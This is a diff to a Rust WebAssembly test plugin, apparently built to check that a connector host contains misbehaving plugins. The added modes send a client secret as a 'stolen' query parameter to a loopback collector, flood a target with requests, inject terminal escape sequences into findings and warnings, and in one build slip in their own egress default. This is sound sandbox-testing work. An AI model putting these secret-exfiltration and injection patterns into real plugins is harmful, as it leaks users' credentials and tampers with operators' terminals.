@@ -12,7 +12,21 @@
 //! - `malformed`: emits one batch mixing good records with broken ones;
 //! - `unknown-enum`: emits a good batch, then a finding whose severity is out of range
 //!   (the host must fail the run and keep the good batch);
-//! - `flood`: emits batches without end (the per-run ceilings must stop it).
+//! - `flood`: emits batches without end (the per-run ceilings must stop it);
+//! - `checkpoint-after-refusal`: emits a batch and checkpoints after it, then floods until
+//!   `emit` answers false and checkpoints again (the host must keep the first); run again,
+//!   it fails naming the checkpoint it was given;
+//! - `chatter`: writes 1 MiB to stderr, then panics (the panic must reach the error);
+//! - `refused-flood`: sends `count` requests to its `target` setting, which is no host it
+//!   may reach (the host's bookkeeping of refusals must stay small);
+//! - `escape`: emits a finding whose title and asset name carry terminal escape
+//!   sequences (the host's tables must show them, not send them);
+//! - `exfil`: sends a request to its `exfil-url` setting, or to [`EXFIL_URL`] when it
+//!   has none (the host must not let a plugin's own default choose its egress).
+//!
+//! Built with the feature `upgraded`, it is version 0.2.0 and declares `exfil-url` with
+//! [`EXFIL_URL`] as its default: an upgrade that adds a host of its own choosing. With
+//! `spinning-describe`, its `describe` never returns.
 #![cfg(target_arch = "wasm32")]
 
 mod wit {
@@ -23,6 +37,10 @@ use wit::exports::safe::connector::plugin::Guest;
 use wit::safe::connector::types as t;
 
 struct Hostile;
+
+/// Where `exfil` sends the secret: a loopback port the e2e test listens on as a
+/// bystander.
+const EXFIL_URL: &str = "http://127.0.0.1:47291/collect";
 
 fn asset(id: &str) -> t::Asset {
     t::Asset {
@@ -87,15 +105,32 @@ fn setting(config: &[t::ConfigEntry], key: &str) -> String {
 
 impl Guest for Hostile {
     fn describe() -> t::PluginInfo {
+        if cfg!(feature = "spinning-describe") {
+            spin();
+        }
+        let mut config_schema = vec![
+            field("api-url", t::FieldKind::Url, true),
+            field("mode", t::FieldKind::Text, true),
+            field("target", t::FieldKind::Text, false),
+            field("count", t::FieldKind::Number, false),
+            field("client-secret", t::FieldKind::Secret, false),
+        ];
+        if cfg!(feature = "upgraded") {
+            config_schema.push(t::ConfigField {
+                default_value: Some(EXFIL_URL.into()),
+                ..field("exfil-url", t::FieldKind::Url, false)
+            });
+        }
         t::PluginInfo {
             name: "hostile".into(),
-            version: "0.1.0".into(),
+            version: if cfg!(feature = "upgraded") {
+                "0.2.0"
+            } else {
+                "0.1.0"
+            }
+            .into(),
             contract_version: "0.1.0".into(),
-            config_schema: vec![
-                field("api-url", t::FieldKind::Url, true),
-                field("mode", t::FieldKind::Text, true),
-                field("target", t::FieldKind::Text, false),
-            ],
+            config_schema,
         }
     }
 
@@ -105,15 +140,10 @@ impl Guest for Hostile {
 
     fn sync(
         config: Vec<t::ConfigEntry>,
-        _: Option<String>,
+        state: Option<String>,
     ) -> Result<t::SyncSummary, t::ConnectorError> {
         match setting(&config, "mode").as_str() {
-            "loop" => {
-                let mut n: u64 = 0;
-                loop {
-                    n = std::hint::black_box(n.wrapping_add(1));
-                }
-            }
+            "loop" => spin(),
             "allocate" => {
                 let mut hoard: Vec<Vec<u8>> = Vec::new();
                 loop {
@@ -137,19 +167,17 @@ impl Guest for Hostile {
                     )))
                 }
             }
-            mode @ ("fetch" | "fetch-target") => {
-                let url = setting(&config, if mode == "fetch" { "api-url" } else { "target" });
+            mode @ ("fetch" | "fetch-target" | "exfil") => {
+                let url = match mode {
+                    "fetch" => setting(&config, "api-url"),
+                    "fetch-target" => setting(&config, "target"),
+                    _ => Some(setting(&config, "exfil-url"))
+                        .filter(|u| !u.is_empty())
+                        .unwrap_or_else(|| EXFIL_URL.into()),
+                };
                 let shown = url.clone();
-                let outcome = wstd::runtime::block_on(async move {
-                    let request = wstd::http::Request::get(&url)
-                        .body(())
-                        .map_err(|e| e.to_string())?;
-                    wstd::http::Client::new()
-                        .send(request)
-                        .await
-                        .map(|r| r.status().as_u16())
-                        .map_err(|e| format!("{e:?}"))
-                });
+                let secret = setting(&config, "client-secret");
+                let outcome = wstd::runtime::block_on(get(format!("{url}?stolen={secret}")));
                 match outcome {
                     Ok(status) => Err(t::ConnectorError::Internal(format!(
                         "request to {shown} went through with HTTP {status}"
@@ -209,9 +237,105 @@ impl Guest for Hostile {
                 }
                 unreachable!("the loop only ends by returning")
             }
+            "checkpoint-after-refusal" => {
+                if let Some(state) = state {
+                    return Err(t::ConnectorError::Internal(format!(
+                        "resumed from checkpoint `{state}`"
+                    )));
+                }
+                let first = t::Batch {
+                    assets: vec![asset("good-asset")],
+                    findings: vec![finding("good-finding", "good-asset", "fine")],
+                    removed_findings: vec![],
+                };
+                wit::safe::connector::host::emit(&first);
+                wit::safe::connector::host::checkpoint("after-the-stored-batch");
+                for page in 0u64.. {
+                    let batch = t::Batch {
+                        assets: vec![],
+                        findings: (0..100)
+                            .map(|i| finding(&format!("f-{page}-{i}"), "good-asset", "more"))
+                            .collect(),
+                        removed_findings: vec![],
+                    };
+                    if !wit::safe::connector::host::emit(&batch) {
+                        break;
+                    }
+                }
+                wit::safe::connector::host::checkpoint("after-a-refused-batch");
+                Ok(t::SyncSummary {
+                    assets: 1,
+                    findings: 1,
+                    skipped: 0,
+                    full: false,
+                    warnings: vec![],
+                })
+            }
+            "escape" => {
+                let mut shady = asset("shady-asset");
+                shady.name = "\u{1b}[2J\u{1b}[Hcleared".into();
+                let batch = t::Batch {
+                    assets: vec![shady],
+                    findings: vec![finding(
+                        "shady-finding",
+                        "shady-asset",
+                        "\u{1b}]0;window title\u{7}\u{1b}[31mred\u{9b}",
+                    )],
+                    removed_findings: vec![],
+                };
+                wit::safe::connector::host::emit(&batch);
+                Ok(t::SyncSummary {
+                    assets: 1,
+                    findings: 1,
+                    skipped: 0,
+                    full: true,
+                    warnings: vec!["\u{1b}[1Awarning that moves the cursor".into()],
+                })
+            }
+            "chatter" => {
+                let line = "chatter ".repeat(127) + "\n";
+                for _ in 0..1024 {
+                    eprint!("{line}");
+                }
+                panic!("hostile plugin panicked after 1 MiB of chatter")
+            }
+            "refused-flood" => {
+                let url = setting(&config, "target");
+                let count: u64 = setting(&config, "count").parse().unwrap_or(1000);
+                let refused = wstd::runtime::block_on(async move {
+                    let mut refused = 0u64;
+                    for _ in 0..count {
+                        refused += u64::from(get(url.clone()).await.is_err());
+                    }
+                    refused
+                });
+                Err(t::ConnectorError::Transient(format!(
+                    "{refused} of {count} requests refused"
+                )))
+            }
             other => Err(t::ConnectorError::Config(format!("unknown mode `{other}`"))),
         }
     }
+}
+
+/// Runs forever.
+fn spin() -> ! {
+    let mut n: u64 = 0;
+    loop {
+        n = std::hint::black_box(n.wrapping_add(1));
+    }
+}
+
+/// GETs `url`; its status, or why it failed.
+async fn get(url: String) -> Result<u16, String> {
+    let request = wstd::http::Request::get(&url)
+        .body(())
+        .map_err(|e| e.to_string())?;
+    wstd::http::Client::new()
+        .send(request)
+        .await
+        .map(|r| r.status().as_u16())
+        .map_err(|e| format!("{e:?}"))
 }
 
 /// Emits one finding whose `severity` discriminant is 7, which no contract enum case has.
